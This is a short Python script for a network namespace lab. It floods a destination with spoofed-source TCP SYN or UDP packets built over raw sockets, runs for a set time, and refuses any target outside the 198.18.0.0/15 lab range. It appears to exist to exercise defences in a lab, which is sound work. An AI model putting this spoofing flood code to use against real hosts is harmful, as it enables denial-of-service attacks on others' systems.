#!/usr/bin/env python3
"""A bounded flood for the namespace lab: TCP SYNs (or, with `udp`, 32-byte UDP datagrams) from
random sources in 198.18.0.0/24 (none of them real hosts) and random ports to DST:PORT, as fast
as one core sends them, for SECONDS, then it stops and prints how many it sent. Run it in the
client namespace only.
   synflood.py DST PORT SECONDS [tcp|udp]"""
import random
import socket
import struct
import sys
import time

dst, port, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
udp = len(sys.argv) > 4 and sys.argv[4] == "udp"
if not dst.startswith("198.18.") and not dst.startswith("198.19."):
    sys.exit("synflood: lab addresses (198.18.0.0/15) only")
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
dst_bytes = socket.inet_aton(dst)
sent = 0
end = time.monotonic() + seconds
rnd = random.Random(1)
while time.monotonic() < end:
    for _ in range(256):
        src = bytes([198, 18, 0, rnd.randrange(20, 250)])
        if udp:
            # UDP checksum 0: none (RFC 768), so the datagram needs no pseudo-header sum.
            l4 = struct.pack("!HHHH", rnd.randrange(1024, 65535), port, 8 + 24, 0) + b"spoofed probe, no reply!"
        else:
            l4 = struct.pack("!HHIIBBHHH", rnd.randrange(1024, 65535), port, rnd.getrandbits(32), 0, 5 << 4, 0x02, 65535, 0, 0)
        proto = socket.IPPROTO_UDP if udp else socket.IPPROTO_TCP
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(l4), rnd.getrandbits(16), 0, 64, proto, 0, src, dst_bytes)
        try:
            s.sendto(ip + l4, (dst, 0))
            sent += 1
        except OSError:
            pass
print(f"{'udp' if udp else 'syn'}flood sent {sent} in {seconds:.0f} s")
